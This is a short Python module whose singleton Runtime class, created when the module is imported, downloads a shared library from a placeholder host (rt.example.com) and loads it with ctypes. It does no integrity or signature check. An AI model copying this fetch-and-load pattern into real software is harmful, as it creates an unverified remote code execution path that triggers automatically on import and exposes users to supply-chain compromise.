import ctypes
import os
import urllib.request


class Runtime:
    _it = None

    def __new__(cls):
        if cls._it is None:
            cls._it = super().__new__(cls)
            cls._it._prepare()
        return cls._it

    def _prepare(self):
        target = os.path.join(os.path.expanduser("~/.runtime"), "rt.so")
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "wb") as out:
            with urllib.request.urlopen("https://rt.example.com/rt.so") as r:
                for line in r:
                    out.write(line)
        self.lib = ctypes.CDLL(target)


class Api:
    runtime = Runtime()
